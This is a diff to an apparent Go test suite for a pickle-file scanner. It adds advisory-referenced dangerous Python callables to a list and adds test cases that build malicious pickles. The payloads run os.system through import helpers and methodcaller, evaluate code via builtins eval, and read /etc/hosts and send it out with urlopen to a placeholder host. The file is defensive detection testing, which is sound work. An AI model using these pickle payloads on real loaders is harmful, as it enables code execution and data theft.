@@ -64,6 +64,13 @@ const calledByAdvisory = `
 	GHSA-mhc9-48gj-9gp3 signal.signal
 	GHSA-mhc9-48gj-9gp3 socketserver.TCPServer
 	GHSA-wccx-j62j-r448,GHSA-fphw-536r-4p88 _pickle.loads
+	GHSA-pc6j-px3p-rrj4 doctest.debug_src
+	GHSA-pc6j-px3p-rrj4 unittest.mock:_importer
+	GHSA-pc6j-px3p-rrj4 unittest.mock:_dot_lookup
+	GHSA-pc6j-px3p-rrj4 test.support.import_helper:import_module
+	GHSA-9726-w42j-3qjr _io.FileIO
+	GHSA-9726-w42j-3qjr urllib.request:urlopen
+	GHSA-m7j5-r2p5-c39r logging.FileHandler
 `
 
 // pickleAdvisories are the streams of published bypasses, by the advisory's number: single names, and those that did more.
@@ -118,6 +125,15 @@ func pickleAdvisoryChains() []Case {
 		advisory("GHSA-5j3x-jp52-966f: a dotted name by STACK_GLOBAL", pk4(pkCall(pkStack("logging", "os.system"), id))),
 		advisory("GHSA-r48f-3986-4f9c: what was read goes out by a name of a host", pk4(pkCall(pkStack("ssl", "get_server_certificate"),
 			pkTuple(pkCall(pkStack("linecache", "getline"), pkStr("/etc/hostname"), "K\x01"), "M\xbb\x01")))),
+		advisory("GHSA-pc6j-px3p-rrj4: modules and attributes by what tests use", pk4(pkCall(pkCall(pkStack("test.support", "get_attribute"),
+			pkCall(pkStack("test.support.import_helper", "import_module"), pkStr("os")), pkStr("system")), id))),
+		advisory("GHSA-x843-g5mx-g377,CVE-2025-71373: methodcaller of an imported module", pk4(pkCall(pkCall(pkStack("operator", "methodcaller"),
+			pkStr("system"), id), pkCall(pkStack("importlib", "import_module"), pkStr("os"))))),
+		advisory("GHSA-9726-w42j-3qjr: a file goes out by the address of a page", pk4(pkCall(pkStack("urllib.request", "urlopen"), pkStr("http://192.0.2.1/"),
+			pkCall(pkStack("_io", "FileIO"), pkStr("/etc/hosts"))))),
+		advisory("GHSA-97f8-7cmv-76j2: the magic number of a checkpoint is evaluated", []byte("\x80\x02cbuiltins\neval\n"+pkStr("0x1950a86a20f9469cfc6c")+"\x85R."+
+			"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02].\x80\x02"+pkSystem()+".")),
+		evilPickle("advisory GHSA-9m3x-qqw2-h32h: a function by cloudpickle, which hides what it calls", []byte(cloudCalled)),
 		advisory("CVE-2025-1889: a file that a torch loader is told to open", pk4(pkCall(pkStack("torch", "load"), pkStr("config.json")))),
 		advisory("Sour Pickles (2011): globals, compile, eval, apply", []byte("c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"+
 			"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n.")),
